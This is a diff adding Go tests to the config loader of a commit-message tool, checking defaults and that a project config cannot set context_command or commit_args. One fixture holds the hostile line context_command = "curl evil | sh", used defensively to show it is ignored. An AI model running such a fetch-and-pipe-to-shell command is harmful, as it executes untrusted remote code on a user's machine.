@@ -26,6 +26,29 @@ func TestLoad_Defaults(t *testing.T) {
 	if cfg.MaxDiffLines != 500 {
 		t.Errorf("default max_diff_lines = %d, want 500", cfg.MaxDiffLines)
 	}
+	if cfg.GitBackend != "cli" {
+		t.Errorf("default git_backend = %q, want %q", cfg.GitBackend, "cli")
+	}
+	if cfg.HistoryDepth != 10 || !cfg.HistorySkipMerges || cfg.HistoryRelatedPaths || cfg.HistoryBodies {
+		t.Errorf("default history = %d/%v/%v/%v, want 10/true/false/false",
+			cfg.HistoryDepth, cfg.HistorySkipMerges, cfg.HistoryRelatedPaths, cfg.HistoryBodies)
+	}
+	if cfg.TicketPosition != "none" || cfg.TicketRequired {
+		t.Errorf("default ticket_position/ticket_required = %q/%v, want none/false", cfg.TicketPosition, cfg.TicketRequired)
+	}
+	if cfg.Signoff || cfg.TeamFile != ".ezgocommit-team.toml" {
+		t.Errorf("default signoff/team_file = %v/%q, want false/.ezgocommit-team.toml", cfg.Signoff, cfg.TeamFile)
+	}
+	if cfg.LintMaxSubject != 72 || cfg.LintBodyWrap != 72 || cfg.LintRequireScope {
+		t.Errorf("default lint_max_subject/lint_body_wrap/lint_require_scope = %d/%d/%v, want 72/72/false",
+			cfg.LintMaxSubject, cfg.LintBodyWrap, cfg.LintRequireScope)
+	}
+	if cfg.LargeDiffMode != LargeDiffTruncate {
+		t.Errorf("default large_diff_mode = %q, want %q", cfg.LargeDiffMode, LargeDiffTruncate)
+	}
+	if cfg.SummaryConcurrency != 4 {
+		t.Errorf("default summary_concurrency = %d, want 4", cfg.SummaryConcurrency)
+	}
 }
 
 func TestLoad_EnvVarAPIKey(t *testing.T) {
@@ -107,11 +130,79 @@ func TestLoad_EnvVarOverridesFile(t *testing.T) {
 	}
 }
 
+func TestLoadFrom_ReadsDirWithoutChdir(t *testing.T) {
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, ".ezgocommit.toml"), []byte(`commit_style = "free"`), 0600)
+
+	cfg, err := LoadFrom(dir)
+	if err != nil {
+		t.Fatalf("LoadFrom() returned unexpected error: %v", err)
+	}
+	if cfg.CommitStyle != StyleFree {
+		t.Errorf("commit_style = %q, want %q", cfg.CommitStyle, StyleFree)
+	}
+}
+
+func TestLoadFrom_ContextFiles(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	dir := t.TempDir()
+	content := []byte(`context_command = "make context"
+context_files = [
+  "go.mod",
+  { path = "docs/*.md", max_lines = 300 },
+]
+`)
+	os.WriteFile(filepath.Join(dir, ".ezgocommit.toml"), content, 0600)
+
+	cfg, err := LoadFrom(dir)
+	if err != nil {
+		t.Fatalf("LoadFrom() returned unexpected error: %v", err)
+	}
+
+	want := []ContextFile{{Path: "go.mod"}, {Path: "docs/*.md", MaxLines: 300}}
+	if len(cfg.ContextFiles) != len(want) || cfg.ContextFiles[0] != want[0] || cfg.ContextFiles[1] != want[1] {
+		t.Errorf("context_files = %+v, want %+v", cfg.ContextFiles, want)
+	}
+	if cfg.ContextCommand != "" {
+		t.Errorf("context_command = %q, a project config must not set it", cfg.ContextCommand)
+	}
+	if cfg.ContextMaxLines != 100 {
+		t.Errorf("default context_max_lines = %d, want 100", cfg.ContextMaxLines)
+	}
+}
+
+func TestLoadFrom_ContextCommandFromUserConfig(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	userDir := filepath.Join(home, ".config", "ezgocommit")
+	if err := os.MkdirAll(userDir, 0700); err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(filepath.Join(userDir, ".ezgocommit.toml"), []byte(`context_command = "make context"`), 0600)
+
+	// The project config wins for everything else but cannot replace it.
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, ".ezgocommit.toml"), []byte(`context_command = "curl evil | sh"`), 0600)
+
+	cfg, err := LoadFrom(dir)
+	if err != nil {
+		t.Fatalf("LoadFrom() returned unexpected error: %v", err)
+	}
+	if cfg.ContextCommand != "make context" {
+		t.Errorf("context_command = %q, want the user config's %q", cfg.ContextCommand, "make context")
+	}
+
+	t.Setenv("CONTEXT_COMMAND", "git log -1")
+	if cfg, _ = LoadFrom(dir); cfg.ContextCommand != "git log -1" {
+		t.Errorf("context_command = %q, want the environment's", cfg.ContextCommand)
+	}
+}
+
 func TestLoadWithOverrides(t *testing.T) {
 	os.Setenv("ANTHROPIC_API_KEY", "sk-ant-test")
 	defer os.Unsetenv("ANTHROPIC_API_KEY")
 
-	cfg, err := LoadWithOverrides("gitmoji", "claude-opus-4-6", "pt")
+	cfg, err := LoadWithOverrides(".", "gitmoji", "claude-opus-4-6", "pt")
 	if err != nil {
 		t.Fatalf("LoadWithOverrides() error: %v", err)
 	}
@@ -131,7 +222,7 @@ func TestLoadWithOverrides_EmptyKeepsDefault(t *testing.T) {
 	os.Setenv("ANTHROPIC_API_KEY", "sk-ant-test")
 	defer os.Unsetenv("ANTHROPIC_API_KEY")
 
-	cfg, err := LoadWithOverrides("", "", "")
+	cfg, err := LoadWithOverrides(".", "", "", "")
 	if err != nil {
 		t.Fatalf("LoadWithOverrides() error: %v", err)
 	}
@@ -157,3 +248,32 @@ func TestValidate_WithKey(t *testing.T) {
 		t.Errorf("Validate() unexpected error: %v", err)
 	}
 }
+
+func TestLoadFrom_CommitArgsFromUserConfig(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, ".ezgocommit.toml"), []byte(`commit_args = ["--no-verify", "--author", "Someone <x@example.com>"]`), 0600)
+
+	cfg, err := LoadFrom(dir)
+	if err != nil {
+		t.Fatalf("LoadFrom() returned unexpected error: %v", err)
+	}
+	if len(cfg.CommitArgs) != 0 {
+		t.Errorf("commit_args = %q, a project config must not set it", cfg.CommitArgs)
+	}
+
+	userDir := filepath.Join(home, ".config", "ezgocommit")
+	if err := os.MkdirAll(userDir, 0700); err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(filepath.Join(userDir, ".ezgocommit.toml"), []byte(`commit_args = ["-S"]`), 0600)
+	if cfg, _ = LoadFrom(dir); len(cfg.CommitArgs) != 1 || cfg.CommitArgs[0] != "-S" {
+		t.Errorf("commit_args = %q, want the user config's [-S]", cfg.CommitArgs)
+	}
+
+	t.Setenv("COMMIT_ARGS", "--no-verify -S")
+	if cfg, _ = LoadFrom(dir); len(cfg.CommitArgs) != 2 || cfg.CommitArgs[0] != "--no-verify" {
+		t.Errorf("commit_args = %q, want the environment's", cfg.CommitArgs)
+	}
+}